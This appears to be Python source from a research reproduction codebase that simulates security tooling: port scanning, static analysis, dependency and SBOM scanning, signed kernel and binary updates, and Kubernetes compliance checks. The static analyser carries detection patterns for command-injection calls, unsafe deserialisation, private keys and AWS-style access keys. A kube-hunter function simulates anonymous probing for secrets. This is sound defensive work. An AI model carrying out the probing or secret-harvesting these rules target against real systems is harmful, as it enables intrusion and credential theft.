    findings: List[PortFinding] = field(default_factory=list)

    @property
    def unexpected_open(self) -> List[PortFinding]:
        return [f for f in self.findings if not f.expected]

    @property
    def missing_tls(self) -> List[PortFinding]:
        return [f for f in self.findings if f.expected and not f.tls]


class NmapScanner:
    """Port enumeration + TLS enforcement check against a host."""

    def __init__(self, allowed_ports: Sequence[int] = (22, 443, 6443)) -> None:
        self.allowed_ports = set(allowed_ports)

    def scan(self, host: Host) -> PortScanReport:
        report = PortScanReport(host=host.hostname)
        for port, service in sorted(host.services.listening_ports().items()):
            report.findings.append(PortFinding(
                port=port, service=service.name, tls=service.tls,
                expected=port in self.allowed_ports))
        return report

"""Static Application Security Testing (M14).

Three engines matching the paper's tool mix:

* **Bandit-style**: real :mod:`ast` analysis of Python sources extracted
  from image layers — hardcoded credentials, ``eval``/``exec``,
  ``subprocess(..., shell=True)``, ``pickle.loads``, weak hashes, SQL
  string-building into ``execute()``, ``yaml.load`` without a safe
  loader, ``os.system`` with dynamic input.
* **Semgrep-style**: line-pattern rules over any source text — disabled
  TLS verification, embedded private keys, plaintext http endpoints,
  AWS-style secrets.
* **SpotBugs-style**: pattern rules for Java sources (command execution,
  weak MessageDigest, SQL concatenation), since GENIO images carry Java
  workloads too.

A Pylint-style quality pass (bare except, mutable default arguments) is
included because the paper uses Pylint for code-quality findings; these
are reported at LOW severity and kept distinct from security findings.
"""

from __future__ import annotations

import ast
import re
from dataclasses import dataclass, field
from typing import Dict, List, Optional, Sequence, Tuple

from repro.virt.image import ContainerImage

SEVERITIES = ("LOW", "MEDIUM", "HIGH")

_CREDENTIAL_NAMES = re.compile(r"(password|passwd|secret|token|api_?key)",
                               re.IGNORECASE)
_WEAK_HASHES = {"md5", "sha1"}


@dataclass
class SastFinding:
    """One static-analysis finding."""

    rule_id: str
    message: str
    path: str
    line: int
    severity: str = "MEDIUM"
    category: str = "security"    # security | quality


@dataclass
class SastReport:
    """One image (or source tree) analysis."""

    target: str
    findings: List[SastFinding] = field(default_factory=list)
    files_scanned: int = 0
    parse_errors: List[str] = field(default_factory=list)

    @property
    def security_findings(self) -> List[SastFinding]:
        return [f for f in self.findings if f.category == "security"]

    @property
    def quality_findings(self) -> List[SastFinding]:
        return [f for f in self.findings if f.category == "quality"]

    def rule_ids(self) -> List[str]:
        return sorted({f.rule_id for f in self.findings})


class _PythonVisitor(ast.NodeVisitor):
    """The Bandit-style AST walk."""

    def __init__(self, path: str, report: SastReport) -> None:
        self.path = path
        self.report = report
        # Names assigned a string built by concatenation/formatting —
        # one-step taint tracking so `q = "..." + x; cur.execute(q)` fires.
        self._tainted_names: set = set()

    def _add(self, rule_id: str, message: str, node: ast.AST,
             severity: str = "MEDIUM", category: str = "security") -> None:
        self.report.findings.append(SastFinding(
            rule_id=rule_id, message=message, path=self.path,
            line=getattr(node, "lineno", 0), severity=severity,
            category=category))

    # -- hardcoded credentials (B105/B106) -----------------------------------

    def visit_Assign(self, node: ast.Assign) -> None:
        if isinstance(node.value, ast.Constant) and isinstance(node.value.value, str):
            if node.value.value:
                for target in node.targets:
                    name = getattr(target, "id", getattr(target, "attr", ""))
                    if name and _CREDENTIAL_NAMES.search(name):
                        self._add("B105", f"hardcoded credential in {name!r}",
                                  node, severity="HIGH")
        if _is_tainted_sql(node.value):
            for target in node.targets:
                name = getattr(target, "id", "")
                if name:
                    self._tainted_names.add(name)
        self.generic_visit(node)

    # -- dangerous calls ---------------------------------------------------------

    def visit_Call(self, node: ast.Call) -> None:
        name = _call_name(node)

        if name in ("eval", "exec"):
            self._add("B307", f"use of {name}() on dynamic input", node,
                      severity="HIGH")
        if name in ("pickle.loads", "pickle.load", "cPickle.loads"):
            self._add("B301", "pickle deserialization of untrusted data",
                      node, severity="HIGH")
        if name in ("marshal.loads",):
            self._add("B302", "marshal deserialization", node, severity="HIGH")
        if name == "yaml.load" and not _has_safe_loader(node):
            self._add("B506", "yaml.load without SafeLoader", node,
                      severity="MEDIUM")
        if name == "os.system":
            if node.args and not _is_literal(node.args[0]):
                self._add("B605", "os.system with dynamic command "
                          "(command injection)", node, severity="HIGH")
        if name.startswith("subprocess.") and _kwarg_true(node, "shell"):
            self._add("B602", "subprocess call with shell=True", node,
                      severity="HIGH")
        if name in ("hashlib.md5", "hashlib.sha1"):
            self._add("B303", f"weak hash {name.split('.')[1]} used", node,
                      severity="MEDIUM")
        if name == "hashlib.new" and node.args:
            algorithm = node.args[0]
            if (isinstance(algorithm, ast.Constant)
                    and str(algorithm.value).lower() in _WEAK_HASHES):
                self._add("B303", f"weak hash {algorithm.value} used", node,
                          severity="MEDIUM")
        if name.endswith(".execute") and node.args:
            arg = node.args[0]
            tainted = _is_tainted_sql(arg) or (
                isinstance(arg, ast.Name) and arg.id in self._tainted_names)
            if tainted:
                self._add("B608", "SQL statement built by string "
                          "concatenation/formatting (SQL injection)", node,
                          severity="HIGH")
        if name == "random.random" or name == "random.randint":
            pass  # quality-only in this profile
        self.generic_visit(node)

    # -- quality (Pylint-style) ------------------------------------------------------

    def visit_ExceptHandler(self, node: ast.ExceptHandler) -> None:
        if node.type is None:
            self._add("W0702", "bare except clause", node, severity="LOW",
                      category="quality")
        self.generic_visit(node)

    def visit_FunctionDef(self, node: ast.FunctionDef) -> None:
        for default in node.args.defaults:
            if isinstance(default, (ast.List, ast.Dict, ast.Set)):
                self._add("W0102", f"mutable default argument in "
                          f"{node.name}()", node, severity="LOW",
                          category="quality")
        self.generic_visit(node)


def _call_name(node: ast.Call) -> str:
    func = node.func
    if isinstance(func, ast.Name):
        return func.id
    if isinstance(func, ast.Attribute):
        parts = [func.attr]
        value = func.value
        while isinstance(value, ast.Attribute):
            parts.append(value.attr)
            value = value.value
        if isinstance(value, ast.Name):
            parts.append(value.id)
        return ".".join(reversed(parts))
    return ""


def _is_literal(node: ast.AST) -> bool:
    return isinstance(node, ast.Constant)


def _kwarg_true(node: ast.Call, name: str) -> bool:
    for keyword in node.keywords:
        if keyword.arg == name and isinstance(keyword.value, ast.Constant):
            return bool(keyword.value.value)
    return False


def _has_safe_loader(node: ast.Call) -> bool:
    for keyword in node.keywords:
        if keyword.arg == "Loader":
            loader = keyword.value
            loader_name = getattr(loader, "attr", getattr(loader, "id", ""))
            return "Safe" in str(loader_name)
    return False


def _is_tainted_sql(node: ast.AST) -> bool:
    """String built with +, %, .format() or an f-string with placeholders."""
    if isinstance(node, ast.BinOp) and isinstance(node.op, (ast.Add, ast.Mod)):
        return True
    if isinstance(node, ast.JoinedStr):
        return any(isinstance(value, ast.FormattedValue)
                   for value in node.values)
    if isinstance(node, ast.Call):
        name = _call_name(node)
        if name.endswith(".format"):
            return True
    return False


# ---------------------------------------------------------------------------
# Semgrep-style line patterns (language-independent)
# ---------------------------------------------------------------------------

_SEMGREP_RULES: List[Tuple[str, str, re.Pattern, str]] = [
    ("SG-TLS-01", "TLS certificate verification disabled",
     re.compile(r"verify[\"']?\s*[=:]\s*False"), "HIGH"),
    ("SG-KEY-01", "embedded private key material",
     re.compile(r"-----BEGIN (RSA |EC )?PRIVATE KEY-----"), "HIGH"),
    ("SG-HTTP-01", "plaintext http:// endpoint",
     re.compile(r"[\"']http://(?!localhost|127\.0\.0\.1)"), "MEDIUM"),
    ("SG-AWS-01", "AWS-style access key id",
     re.compile(r"AKIA[0-9A-Z]{16}"), "HIGH"),
    ("SG-DEBUG-01", "debug mode enabled in production entrypoint",
     re.compile(r"debug\s*=\s*True"), "MEDIUM"),
]

# SpotBugs-style patterns for Java sources.
_JAVA_RULES: List[Tuple[str, str, re.Pattern, str]] = [
    ("SB-CMD-01", "runtime command execution",
     re.compile(r"Runtime\.getRuntime\(\)\.exec"), "HIGH"),
    ("SB-HASH-01", "weak MessageDigest algorithm",
     re.compile(r"MessageDigest\.getInstance\(\"(MD5|SHA-?1)\"\)"), "MEDIUM"),
    ("SB-SQL-01", "SQL built by string concatenation",
     re.compile(r"(executeQuery|executeUpdate)\([^)]*\+"), "HIGH"),
    ("SB-NULL-01", "possible null dereference after nullable call",
     re.compile(r"\.orElse\(null\)\s*\."), "MEDIUM"),
]


class SastEngine:
    """The combined M14 engine."""

    def scan_source(self, path: str, source: str,
                    report: SastReport) -> None:
        """Analyze one source file into ``report``."""
        report.files_scanned += 1
        if path.endswith(".py"):
            try:
                tree = ast.parse(source)
            except SyntaxError as exc:
                report.parse_errors.append(f"{path}: {exc.msg}")
            else:
                _PythonVisitor(path, report).visit(tree)
        rules = _JAVA_RULES if path.endswith(".java") else []
        for line_no, line in enumerate(source.splitlines(), start=1):
            for rule_id, message, pattern, severity in _SEMGREP_RULES + rules:
                if pattern.search(line):
                    report.findings.append(SastFinding(
                        rule_id=rule_id, message=message, path=path,
                        line=line_no, severity=severity))

    def scan_image(self, image: ContainerImage) -> SastReport:
        """Crane-style extraction + analysis of every source file."""
        report = SastReport(target=image.reference)
        merged = image.merged_files()
        for path in sorted(merged):
            if path.endswith((".py", ".java", ".sh", ".yaml", ".yml",
                              ".cfg", ".env", ".properties")):
                try:
                    source = merged[path].decode("utf-8")
                except UnicodeDecodeError:
                    continue
                self.scan_source(path, source, report)
        return report

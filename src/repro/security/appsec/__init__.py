"""M13/M14/M15: application security testing (Section VI-A of the paper).

* :mod:`repro.security.appsec.sca` — Trivy/OWASP-Dependency-Check-style
  software composition analysis over container image package manifests,
  including the Lesson 7 noise model (flagged-but-unused dependencies,
  no function-level reachability).
* :mod:`repro.security.appsec.sast` — Bandit-style AST analysis of the
  Python sources extracted (Crane-style) from image layers, plus
  Semgrep-style pattern rules and SpotBugs-style Java pattern rules.
* :mod:`repro.security.appsec.dast` — a CATS-style REST API fuzzer
  driving OpenAPI-described endpoints, and an Nmap-style network audit
  of deployed services.
"""

from repro.security.appsec.sca import ScaFinding, ScaReport, ScaScanner
from repro.security.appsec.sast import SastEngine, SastFinding, SastReport
from repro.security.appsec.dast import (
    CatsFuzzer, FuzzFinding, NmapScanner, RestService,
)

__all__ = [
    "ScaFinding",
    "ScaReport",
    "ScaScanner",
    "SastEngine",
    "SastFinding",
    "SastReport",
    "CatsFuzzer",
    "FuzzFinding",
    "NmapScanner",
    "RestService",
]

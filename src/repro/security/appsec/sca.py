"""Software Composition Analysis (M13): Trivy/Dependency-Check style.

Scans a container image's package manifest against the CVE database.
Lesson 7 is modeled faithfully:

* SCA "often flags unused or misidentified dependencies" — packages whose
  manifest entry says ``imported=False`` still produce findings, marked
  ``reachable=False`` so experiments can quantify the noise rate;
* SCA "analyzes entire dependencies without linking vulnerabilities to
  specific functions used" — there is deliberately no function-level
  reachability: the ``reachable`` flag only captures import-level truth,
  which is exactly the visibility gap the paper describes.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional, Sequence

from repro.security.vulnmgmt.cvedb import CveDatabase, CveRecord, Severity
from repro.virt.image import ContainerImage, ImagePackage


@dataclass
class ScaFinding:
    """One vulnerable dependency in one image."""

    cve: CveRecord
    package: ImagePackage
    reachable: bool        # is the dependency even imported by the app?
    misidentified: bool = False   # matched by fuzzy stem, not exact name

    @property
    def severity(self) -> Severity:
        return self.cve.severity


@dataclass
class ScaReport:
    """One image scan."""

    image: str
    findings: List[ScaFinding] = field(default_factory=list)
    packages_scanned: int = 0

    @property
    def actionable(self) -> List[ScaFinding]:
        """Correctly-identified findings on imported dependencies."""
        return [f for f in self.findings
                if f.reachable and not f.misidentified]

    @property
    def noise(self) -> List[ScaFinding]:
        """Lesson 7 noise: unused dependencies or misidentified matches."""
        return [f for f in self.findings
                if not f.reachable or f.misidentified]

    @property
    def noise_rate(self) -> float:
        if not self.findings:
            return 0.0
        return len(self.noise) / len(self.findings)

    def by_severity(self) -> Dict[Severity, int]:
        counts = {severity: 0 for severity in Severity}
        for finding in self.findings:
            counts[finding.severity] += 1
        return counts


def _normalize_name(name: str) -> str:
    """The fuzzy identification heuristic real SCA tools use on unlabeled
    artifacts: strip distro/runtime prefixes and suffixes before matching.

    This is exactly where Lesson 7's "misidentified dependencies" come
    from — ``python3-urllib``, ``urllib3`` and ``urllib3-mirror`` all
    normalize to the same stem, so advisories attach to the wrong thing.
    """
    stem = name.lower()
    for prefix in ("python3-", "python-", "node-", "lib", "golang-"):
        if stem.startswith(prefix):
            stem = stem[len(prefix):]
    for suffix in ("-py", "-python", "-bin", "-mirror", "-fork", "-dev"):
        if stem.endswith(suffix):
            stem = stem[: -len(suffix)]
    return stem.rstrip("0123456789")


class ScaScanner:
    """The M13 SCA engine.

    ``fuzzy_identification`` reproduces the evidence-based matching real
    tools fall back to when manifests are incomplete: packages are
    matched by normalized name stem, which finds renamed/vendored copies
    but also *misidentifies* lookalikes (forks, mirrors, distro rebuilds)
    — findings gain ``misidentified=True`` when only the fuzzy stem, not
    the exact name, matched.
    """

    def __init__(self, cvedb: CveDatabase,
                 fuzzy_identification: bool = False) -> None:
        self.cvedb = cvedb
        self.fuzzy_identification = fuzzy_identification
        if fuzzy_identification:
            self._stems: Dict[str, List[str]] = {}
            for record in cvedb.all():
                self._stems.setdefault(_normalize_name(record.package),
                                       []).append(record.package)

    def scan(self, image: ContainerImage) -> ScaReport:
        """Match every manifest package against the CVE database.

        Like its real counterparts, the scanner reports on everything in
        the image — it cannot tell which dependencies the application
        uses, so unused ones generate the same findings.
        """
        report = ScaReport(image=image.reference)
        for package in image.packages:
            report.packages_scanned += 1
            exact_hits = set()
            for cve in self.cvedb.matching(package.name, package.version,
                                           package.ecosystem):
                exact_hits.add(cve.cve_id)
                report.findings.append(ScaFinding(
                    cve=cve, package=package, reachable=package.imported))
            if self.fuzzy_identification:
                self._fuzzy_scan(package, exact_hits, report)
        return report

    def _fuzzy_scan(self, package: ImagePackage, exact_hits: set,
                    report: ScaReport) -> None:
        """Stem-based matching: finds renames, invents misidentifications."""
        stem = _normalize_name(package.name)
        for candidate in self._stems.get(stem, []):
            if candidate == package.name:
                continue   # exact matching already handled it
            for cve in self.cvedb.matching(candidate, package.version,
                                           package.ecosystem):
                if cve.cve_id in exact_hits:
                    continue
                report.findings.append(ScaFinding(
                    cve=cve, package=package, reachable=package.imported,
                    misidentified=True))

    def scan_many(self, images: Sequence[ContainerImage]) -> List[ScaReport]:
        return [self.scan(image) for image in images]

    @staticmethod
    def gate(report: ScaReport, max_severity: Severity = Severity.HIGH) -> bool:
        """Registry admission gate: False if any finding at/above the bar.

        Note the gate cannot use reachability (the tool does not know it),
        so noisy findings block publishes too — the Lesson 7 pain.
        """
        order = [Severity.LOW, Severity.MEDIUM, Severity.HIGH, Severity.CRITICAL]
        bar = order.index(max_severity)
        return not any(order.index(f.severity) >= bar for f in report.findings)

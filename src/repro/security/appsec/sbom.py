"""Software Bill of Materials for container images (supports CRA-11).

Complements the cluster-level KBOM (M12) with a per-image SBOM in a
CycloneDX-flavoured structure: components with ecosystem-qualified purls,
layer provenance, and the link back to CVE matching so every
vulnerability report can cite the exact component entry it refers to.
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from typing import Dict, List, Optional, Tuple

from repro.security.vulnmgmt.cvedb import CveDatabase, CveRecord
from repro.virt.image import ContainerImage, ImagePackage

_PURL_TYPES = {"debian": "deb", "pypi": "pypi", "npm": "npm",
               "maven": "maven", "k8s": "oci"}


@dataclass(frozen=True)
class SbomComponent:
    """One cataloged component."""

    name: str
    version: str
    ecosystem: str
    purl: str
    imported: bool


@dataclass
class Sbom:
    """A per-image bill of materials."""

    image: str
    image_digest: str
    components: Tuple[SbomComponent, ...]

    def to_dict(self) -> dict:
        """CycloneDX-flavoured serialisable form."""
        return {
            "bomFormat": "CycloneDX-like",
            "specVersion": "1.5-sim",
            "metadata": {"component": {"type": "container",
                                       "name": self.image,
                                       "hashes": [self.image_digest]}},
            "components": [
                {"type": "library", "name": c.name, "version": c.version,
                 "purl": c.purl,
                 "properties": [{"name": "genio:imported",
                                 "value": str(c.imported).lower()}]}
                for c in self.components
            ],
        }

    def to_json(self) -> str:
        return json.dumps(self.to_dict(), indent=2, sort_keys=True)

    def component_for(self, name: str) -> Optional[SbomComponent]:
        for component in self.components:
            if component.name == name:
                return component
        return None


def generate_sbom(image: ContainerImage) -> Sbom:
    """Walk the image manifest and emit its SBOM."""
    components = tuple(
        SbomComponent(
            name=package.name, version=package.version,
            ecosystem=package.ecosystem,
            purl=(f"pkg:{_PURL_TYPES.get(package.ecosystem, 'generic')}/"
                  f"{package.name}@{package.version}"),
            imported=package.imported)
        for package in image.packages
    )
    return Sbom(image=image.reference, image_digest=image.digest(),
                components=components)


@dataclass
class SbomVulnerability:
    """One CVE attached to an SBOM component."""

    component: SbomComponent
    cve: CveRecord


def attach_vulnerabilities(sbom: Sbom,
                           cvedb: CveDatabase) -> List[SbomVulnerability]:
    """Match every SBOM component against the CVE database."""
    findings: List[SbomVulnerability] = []
    for component in sbom.components:
        for cve in cvedb.matching(component.name, component.version,
                                  component.ecosystem):
            findings.append(SbomVulnerability(component=component, cve=cve))
    return findings

"""M9: signed updates (Section IV-D of the paper).

Three update channels, each with its own signing scheme:

* **APT** — user-space packages with GPG-signed repository metadata; the
  enforcement point lives in :meth:`repro.osmodel.host.Host.apt_install`.
* **ONIE** — ONL kernel images signed with X.509 certificates plus a
  detached signature, validated against a locally trusted public key
  backed by the TPM, applied from a Secure-Boot-verified minimal
  environment (:mod:`repro.security.updates.onie`).
* **Custom binaries** — GENIO's own daemons and tools, signed with
  GENIO certificates and verified on each node before installation
  (:mod:`repro.security.updates.binaries`).
"""

from repro.security.updates.onie import (
    OnieImage, OnieInstaller, OnieUpdateResult, sign_onie_image,
)
from repro.security.updates.binaries import (
    BinaryDistributor, SignedBinary, verify_and_install,
)

__all__ = [
    "OnieImage",
    "OnieInstaller",
    "OnieUpdateResult",
    "sign_onie_image",
    "BinaryDistributor",
    "SignedBinary",
    "verify_and_install",
]

"""ONIE-style signed ONL kernel updates (M9, NIST SP 800-193 aligned).

The flow mirrors the paper: images are signed with an X.509 certificate
and shipped with a *detached* signature file; the node validates the
signature against a locally trusted public key whose trust is anchored in
the TPM; ONIE then reboots into a minimal, Secure-Boot-verified
environment to apply the update, so a compromised running OS cannot
interfere with its own replacement.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import List, Optional

from repro.common import crypto
from repro.common.errors import IntegrityError
from repro.osmodel.boot import BootStage, sign_component
from repro.osmodel.host import Host
from repro.security.comms.pki import Certificate, CertificateAuthority


@dataclass
class OnieImage:
    """An ONL installer image plus its detached signature."""

    name: str
    version: str
    payload: bytes
    detached_signature: bytes = b""
    signer_certificate: Optional[Certificate] = None

    def digest(self) -> bytes:
        return crypto.sha256(self.payload)


@dataclass
class OnieUpdateResult:
    """Outcome of one update attempt."""

    host: str
    image: str
    applied: bool
    stage_reached: str
    detail: str


def sign_onie_image(image: OnieImage, signer: crypto.RsaKeyPair,
                    certificate: Certificate) -> OnieImage:
    """Produce the detached signature over the image payload."""
    image.detached_signature = signer.sign(image.payload)
    image.signer_certificate = certificate
    return image


class OnieInstaller:
    """The node-side ONIE environment."""

    def __init__(self, ca: CertificateAuthority,
                 trusted_signer_subjects: Optional[List[str]] = None) -> None:
        self.ca = ca
        self.trusted_signer_subjects = list(
            trusted_signer_subjects or ["genio-release-engineering"])
        self.update_log: List[OnieUpdateResult] = []

    def _verify(self, image: OnieImage, host: Host, now: float) -> Optional[str]:
        """Return a rejection reason or None. Verification steps mirror
        NIST SP 800-193: authenticate the signer, then the payload."""
        certificate = image.signer_certificate
        if certificate is None or not image.detached_signature:
            return "image is unsigned"
        try:
            self.ca.validate(certificate, now=now)
        except Exception as exc:
            return f"signer certificate invalid: {exc}"
        if certificate.subject not in self.trusted_signer_subjects:
            return f"signer {certificate.subject!r} is not release engineering"
        if not certificate.public_key.verify(image.payload,
                                             image.detached_signature):
            return "detached signature does not match payload"
        if host.tpm is None:
            return "no TPM to anchor the trusted key"
        return None

    def apply_update(self, host: Host, image: OnieImage,
                     mok_signer: Optional[crypto.RsaKeyPair] = None,
                     now: float = 0.0) -> OnieUpdateResult:
        """Run the full staged update.

        Stages: verify -> reboot into minimal env (Secure Boot) -> install
        kernel -> reboot into updated chain. Fails closed at each stage.
        """
        reason = self._verify(image, host, now)
        if reason is not None:
            result = OnieUpdateResult(host.hostname, image.name, False,
                                      "verification", reason)
            self.update_log.append(result)
            return result

        # Minimal environment boot: if Secure Boot is enabled, the current
        # chain must itself verify before ONIE will run from it.
        if host.firmware.secure_boot:
            outcome = host.boot()
            if not outcome.booted:
                result = OnieUpdateResult(
                    host.hostname, image.name, False, "minimal-environment",
                    f"pre-update boot failed: {outcome.failure}")
                self.update_log.append(result)
                return result

        # Install: write the kernel image and (re)sign the boot component.
        host.fs.write(f"/boot/vmlinuz-{image.version}", image.payload,
                      mode=0o600, actor="onie")
        host.kernel.version = image.version
        if mok_signer is not None:
            host.boot_chain.install(
                sign_component(BootStage.KERNEL, image.payload, mok_signer))
        result = OnieUpdateResult(host.hostname, image.name, True,
                                  "installed", "update applied")
        self.update_log.append(result)
        return result

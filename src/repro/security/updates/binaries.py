"""Signed distribution of GENIO's own daemons and tools (M9).

Beyond kernels and APT packages, GENIO ships specialized daemons and
custom tools. Each is signed with GENIO's certificates and verified on
every target node before installation; unverifiable artifacts never touch
the filesystem.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional

from repro.common import crypto
from repro.common.errors import IntegrityError
from repro.osmodel.host import Host
from repro.security.comms.pki import Certificate, CertificateAuthority


@dataclass
class SignedBinary:
    """One distributable artifact."""

    name: str
    version: str
    payload: bytes
    install_path: str
    signature: bytes = b""
    signer_certificate: Optional[Certificate] = None


class BinaryDistributor:
    """GENIO release side: signs and publishes binaries."""

    def __init__(self, ca: CertificateAuthority,
                 subject: str = "genio-release-engineering") -> None:
        self.ca = ca
        self.subject = subject
        self.keypair, self.certificate = ca.enroll_device(subject, seed=0xB15)
        self.published: Dict[str, SignedBinary] = {}

    def publish(self, name: str, version: str, payload: bytes,
                install_path: str) -> SignedBinary:
        binary = SignedBinary(
            name=name, version=version, payload=payload,
            install_path=install_path,
            signature=self.keypair.sign(payload),
            signer_certificate=self.certificate,
        )
        self.published[name] = binary
        return binary


def verify_and_install(host: Host, binary: SignedBinary,
                       ca: CertificateAuthority, now: float = 0.0) -> None:
    """Node-side gate: verify the chain, then install.

    :raises IntegrityError: unsigned, tampered, or untrusted-signer binary.
    """
    certificate = binary.signer_certificate
    if certificate is None or not binary.signature:
        raise IntegrityError(f"{binary.name} is unsigned")
    try:
        ca.validate(certificate, now=now)
    except Exception as exc:
        raise IntegrityError(f"{binary.name}: signer invalid: {exc}") from exc
    if not certificate.public_key.verify(binary.payload, binary.signature):
        raise IntegrityError(
            f"{binary.name}: signature does not match payload (tampered?)")
    host.fs.write(binary.install_path, binary.payload, mode=0o755,
                  actor="genio-updater")

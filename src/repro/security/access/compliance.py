"""M11: the community compliance checkers, each covering a subset.

Five engines modeled on their namesakes:

* :func:`kube_bench` — CIS-style control-plane configuration checks;
* :func:`kubesec` — per-pod security-context scoring;
* :func:`kube_hunter` — *active* probing of the API surface (anonymous
  access, insecure port) rather than config reading;
* :func:`kubescape` — NSA-hardening-guidance controls spanning RBAC,
  workloads and network policy;
* :func:`docker_bench` — container-runtime daemon and per-container checks.

Each returns a :class:`ComplianceReport` carrying a set of abstract
*risk ids* it covers, so the E9 experiment can show what the paper's
Lesson 5 says: individual tools address only a subset of the risks, and
designers must integrate several.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, FrozenSet, List, Optional, Sequence, Set, Tuple

from repro.common.errors import AuthenticationError, AuthorizationError
from repro.orchestrator.kube.cluster import KubeCluster
from repro.orchestrator.kube.rbac import Subject
from repro.virt.runtime import ContainerRuntime


@dataclass
class ComplianceCheck:
    """One executed check."""

    check_id: str
    description: str
    passed: bool
    detail: str = ""
    risk_id: str = ""      # abstract risk this check covers


@dataclass
class ComplianceReport:
    """One tool's run against one target."""

    framework: str
    checks: List[ComplianceCheck] = field(default_factory=list)

    def add(self, check_id: str, description: str, passed: bool,
            detail: str = "", risk_id: str = "") -> None:
        self.checks.append(ComplianceCheck(check_id, description, passed,
                                           detail, risk_id))

    @property
    def passed(self) -> int:
        return sum(1 for c in self.checks if c.passed)

    @property
    def pass_rate(self) -> float:
        return self.passed / len(self.checks) if self.checks else 1.0

    def failures(self) -> List[ComplianceCheck]:
        return [c for c in self.checks if not c.passed]

    def risks_covered(self) -> Set[str]:
        return {c.risk_id for c in self.checks if c.risk_id}


# ---------------------------------------------------------------------------
# kube-bench: CIS control-plane configuration
# ---------------------------------------------------------------------------

def kube_bench(cluster: KubeCluster) -> ComplianceReport:
    report = ComplianceReport("kube-bench")
    config = cluster.api.config
    report.add("1.2.1", "anonymous-auth disabled", not config.anonymous_auth,
               risk_id="anonymous-access")
    report.add("1.2.19", "insecure port disabled",
               not config.insecure_port_enabled, risk_id="insecure-port")
    report.add("1.2.29", "TLS on the API server", config.tls_enabled,
               risk_id="plaintext-api")
    report.add("1.2.22", "audit logging enabled", config.audit_logging,
               risk_id="no-audit")
    report.add("1.2.33", "etcd encryption at rest", config.etcd_encryption,
               risk_id="etcd-plaintext")
    report.add("1.2.7", "authorization mode is not AlwaysAllow",
               config.authorization_mode != "AlwaysAllow",
               detail=f"mode={config.authorization_mode}",
               risk_id="authz-always-allow")
    report.add("1.2.16", "PodSecurity admission enabled",
               "PodSecurity" in config.admission_plugins,
               risk_id="no-pod-security-admission")
    return report


# ---------------------------------------------------------------------------
# kubesec: per-pod security-context scoring
# ---------------------------------------------------------------------------

def kubesec(cluster: KubeCluster) -> ComplianceReport:
    report = ComplianceReport("kubesec")
    pods = list(cluster.pods.values())
    if not pods:
        report.add("KS-0", "no pods to score", True, risk_id="")
        return report
    for pod in pods:
        spec = pod.spec
        prefix = pod.key
        report.add(f"{prefix}:privileged", "container not privileged",
                   not spec.security.privileged, risk_id="privileged-pod")
        report.add(f"{prefix}:run-as-non-root", "runAsNonRoot set",
                   spec.security.run_as_non_root, risk_id="root-container")
        report.add(f"{prefix}:caps", "no added capabilities",
                   not spec.security.added_capabilities,
                   risk_id="added-capabilities")
        report.add(f"{prefix}:hostpath", "no hostPath volumes",
                   not spec.host_path_volumes, risk_id="hostpath-mount")
        report.add(f"{prefix}:limits", "resource limits set",
                   not spec.limits.unbounded, risk_id="unbounded-resources")
        report.add(f"{prefix}:seccomp", "seccomp profile applied",
                   spec.security.seccomp_profile in ("runtime/default", "default"),
                   risk_id="seccomp-unconfined")
    return report


# ---------------------------------------------------------------------------
# kube-hunter: active probing of the live API surface
# ---------------------------------------------------------------------------

def kube_hunter(cluster: KubeCluster) -> ComplianceReport:
    """Probes the API server as an unauthenticated attacker would."""
    report = ComplianceReport("kube-hunter")
    api = cluster.api

    # KHV002: can an anonymous caller list pods?
    try:
        api.request(None, "list", "pods", "")
        anonymous_readable = True
    except (AuthenticationError, AuthorizationError):
        anonymous_readable = False
    report.add("KHV002", "anonymous API enumeration blocked",
               not anonymous_readable, risk_id="anonymous-access")

    # KHV005: can an anonymous caller read secrets?
    try:
        api.request(None, "list", "secrets", "")
        secrets_readable = True
    except (AuthenticationError, AuthorizationError):
        secrets_readable = False
    report.add("KHV005", "anonymous secret access blocked",
               not secrets_readable, risk_id="secret-exposure")

    # KHV003: insecure (non-TLS) port reachable?
    report.add("KHV003", "insecure port closed",
               not api.config.insecure_port_enabled, risk_id="insecure-port")

    # KHV036: can an anonymous caller create workloads?
    from repro.orchestrator.kube.objects import PodSpec
    try:
        api.request(None, "create", "pods", "default", "probe", obj=None)
        anonymous_writable = True
    except (AuthenticationError, AuthorizationError):
        anonymous_writable = False
    report.add("KHV036", "anonymous workload creation blocked",
               not anonymous_writable, risk_id="anonymous-write")
    return report


# ---------------------------------------------------------------------------
# kubescape: NSA hardening-guidance controls
# ---------------------------------------------------------------------------

def kubescape(cluster: KubeCluster,
              tenant_namespaces: Sequence[str] = ("tenant-a", "tenant-b"),
              ) -> ComplianceReport:
    report = ComplianceReport("kubescape (NSA guidance)")
    pods = list(cluster.pods.values())

    privileged = [p.key for p in pods if p.spec.security.privileged]
    report.add("C-0057", "no privileged workloads", not privileged,
               detail=", ".join(privileged), risk_id="privileged-pod")

    host_ns = [p.key for p in pods if p.spec.host_network or p.spec.host_pid]
    report.add("C-0038", "no host namespaces", not host_ns,
               detail=", ".join(host_ns), risk_id="host-namespace")

    # RBAC wildcard detection.
    wildcard_roles = [
        role.name for role in cluster.api.rbac.roles.values()
        if any("*" in rule.verbs and "*" in rule.resources
               for rule in role.rules)
    ]
    report.add("C-0088", "no wildcard RBAC roles", not wildcard_roles,
               detail=", ".join(wildcard_roles), risk_id="rbac-wildcard")

    # Network segmentation between tenants.
    unsegmented = [
        namespace for namespace in tenant_namespaces
        if all(cluster.ingress_allowed(other, namespace)
               for other in tenant_namespaces if other != namespace)
        and len(tenant_namespaces) > 1
    ]
    report.add("C-0260", "tenant namespaces network-segmented",
               not unsegmented, detail=", ".join(unsegmented),
               risk_id="no-network-policy")

    report.add("C-0066", "secrets encrypted at rest",
               cluster.api.config.etcd_encryption, risk_id="etcd-plaintext")
    report.add("C-0035", "audit logging enabled",
               cluster.api.config.audit_logging, risk_id="no-audit")
    return report


# ---------------------------------------------------------------------------
# docker-bench: runtime daemon + per-container checks
# ---------------------------------------------------------------------------

def docker_bench(runtime: ContainerRuntime) -> ComplianceReport:
    report = ComplianceReport("docker-bench")
    config = runtime.config
    report.add("2.1", "inter-container communication restricted",
               not config.icc_enabled, risk_id="icc-open")
    report.add("2.8", "user namespace remapping enabled",
               config.userns_remap, risk_id="no-userns-remap")
    report.add("2.14", "live restore enabled", config.live_restore,
               risk_id="no-live-restore")
